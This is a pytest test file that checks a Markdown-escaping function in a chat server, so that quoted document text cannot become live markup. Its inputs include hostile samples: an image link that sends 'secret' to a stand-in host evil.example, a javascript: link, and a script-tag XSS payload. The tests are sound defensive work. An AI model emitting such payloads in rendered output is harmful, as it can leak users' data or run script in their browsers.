"""Answers as Markdown: what a document says cannot become markup."""

import re

import pytest

from strongroom.server.chat.markdown import escaped


@pytest.mark.parametrize(
    "text",
    [
        "![x](http://evil.example/?q=secret)",
        "[click](javascript:alert(1))",
        "<img src=//evil.example> <script>alert(1)</script>",
        "\\![x](http://evil.example)",
        "`` code `` **bold** __bold__ ~~gone~~ | a | b | $x$",
        "[1]: http://evil.example 'title'",
        "<http://evil.example>",
        "a\n\n# heading\n- list\n1. list\n***",
    ],
)
def test_no_markup_is_left_in_what_a_document_says(text: str):
    shown = escaped(text)
    assert "\n" not in shown
    bare = re.sub(r"\\.", "", shown)
    assert not re.search(r"[\[\]<>`*_|~$]", bare)
    assert not re.match(r"#|[-+=]|\d+[.)]", shown)
    assert not re.search(r"(?i)\b(https?|www|javascript)[:.]", shown)


def test_plain_words_stay_as_they_are():
    assert escaped("The sum of 3.50 pounds (in 1931), due; Mr. O'Brien's \u201cnote\u201d.") == (
        "The sum of 3.50 pounds (in 1931), due; Mr. O'Brien's \u201cnote\u201d."
    )


def test_a_sentence_that_begins_as_a_list_does_is_none():
    assert escaped("1931. A year") == "1931\\. A year"
    assert escaped("- not a list") == "\\- not a list"
